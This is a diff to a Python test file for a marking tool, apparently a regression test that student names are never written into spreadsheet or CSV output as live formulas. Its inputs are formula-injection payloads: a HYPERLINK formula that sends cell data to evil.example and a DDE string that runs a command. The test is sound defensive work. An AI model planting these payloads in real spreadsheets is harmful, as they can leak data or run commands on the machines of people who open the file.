@@ -68,3 +68,36 @@ def test_read_marks_names_missing_columns(tmp_path: Path):
         f"'student', 'score'. Give the marks.xlsx written by 'grader mark --out' (edit 'mark' "
         f"or fill 'override', but keep the column names)."
     )
+
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(
+    "name",
+    [
+        EVIL,  # issue #20 finding 4: became a live formula in marks.xlsx
+        "+1+cmd|' /C calc'!A0",  # the other OWASP CSV-injection starts: + - @ tab CR
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_a_student_name_is_never_a_formula(two_results, ussr_marker, tmp_path: Path, name):
+    from grader.io.spreadsheet import write_marks_csv
+
+    unmarked = [Unmarked("cat.txt", "[D002] cat.txt: the script is empty.", "D002")]
+    students = {"ann.txt": name, "cat.txt": name}
+    frame = marks_frame(two_results, unmarked, ussr_marker.rubric, students)
+    write_marks_xlsx(frame, two_results, ussr_marker.rubric, tmp_path / "marks.xlsx")
+    book = load_workbook(tmp_path / "marks.xlsx")
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert [c.value for c in book["marks"]["A"]][1:4:2] == [name, name]
+    write_marks_csv(frame, tmp_path / "marks.csv")
+    text = (tmp_path / "marks.csv").read_bytes().decode("utf-8")
+    assert "\n" + name not in text and "\n'" + name[:6] in text.replace('"', "")
+    if not name[0].isspace():  # the CSV parser trims a leading tab or CR
+        assert list(read_marks(tmp_path / "marks.csv")["student"])[:1] == [name]
